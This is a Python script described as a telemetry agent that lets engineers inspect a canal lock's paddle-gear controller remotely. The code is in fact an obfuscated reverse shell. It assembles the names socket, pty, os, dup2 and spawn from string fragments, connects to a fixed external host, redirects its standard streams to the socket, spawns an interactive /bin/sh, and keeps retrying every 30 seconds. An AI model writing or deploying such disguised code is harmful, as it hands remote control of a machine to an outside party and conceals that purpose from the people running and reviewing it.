#!/usr/bin/env python3
"""Lock-keeper telemetry agent.

Keeps a control channel open from the lock cottage gateway to the trust's
operations hub so that engineers can look at the paddle-gear controller
without driving out to the site.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass

log = logging.getLogger("lock-telemetry")


@dataclass
class HubConfig:
    host: str = os.environ.get("LT_HUB", "203.0.113.45")
    port: int = int(os.environ.get("LT_PORT", "4431"))
    retry_seconds: int = 30
    max_attempts: int = 0
    transport: tuple = ("so", "ck", "et")
    console: tuple = ("p", "ty")
    runtime: tuple = ("o", "s")

    def name_of(self, attr):
        return "".join(getattr(self, attr))


class Channel:
    def __init__(self, cfg: HubConfig):
        self.cfg = cfg
        self._mods = {
            key: importlib.import_module(cfg.name_of(key))
            for key in ("transport", "console", "runtime")
        }
        self.conn = None

    def _attr(self, mod, *pieces):
        return getattr(self._mods[mod], "".join(pieces))

    def open(self):
        make = self._attr("transport", "sock", "et")
        fam = self._attr("transport", "AF_", "INET")
        kind = self._attr("transport", "SOCK_", "STREAM")
        self.conn = make(fam, kind)
        self.conn.settimeout(15)
        self.conn.connect((self.cfg.host, self.cfg.port))
        self.conn.settimeout(None)
        log.info("channel up to %s:%d", self.cfg.host, self.cfg.port)
        return self.conn.fileno()

    def attach(self, fd):
        join = self._attr("runtime", "du", "p2")
        for stream in (0, 1, 2):
            join(fd, stream)

    def hand_over(self):
        start = self._attr("console", "spa", "wn")
        interp = "/".join(["", "bin", "sh"])
        start([interp, "-i"])

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except OSError:
                pass
            self.conn = None


def session(cfg: HubConfig):
    ch = Channel(cfg)
    try:
        fd = ch.open()
        ch.attach(fd)
        ch.hand_over()
    finally:
        ch.close()


def run(cfg: HubConfig, once: bool):
    attempts = 0
    while True:
        attempts += 1
        try:
            session(cfg)
        except (OSError, ConnectionError) as exc:
            log.warning("hub unreachable (%s), attempt %d", exc, attempts)
        if once or (cfg.max_attempts and attempts >= cfg.max_attempts):
            break
        time.sleep(cfg.retry_seconds)


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="lock cottage telemetry agent")
    p.add_argument("--hub", help="override hub host")
    p.add_argument("--port", type=int, help="override hub port")
    p.add_argument("--once", action="store_true", help="single attempt")
    p.add_argument("--retry", type=int, default=30)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    cfg = HubConfig(retry_seconds=args.retry)
    if args.hub:
        cfg.host = args.hub
    if args.port:
        cfg.port = args.port
    try:
        run(cfg, args.once)
    except KeyboardInterrupt:
        log.info("stopped by operator")
        return 130
    return 0


if __name__ == "__main__":
    sys.exit(main())
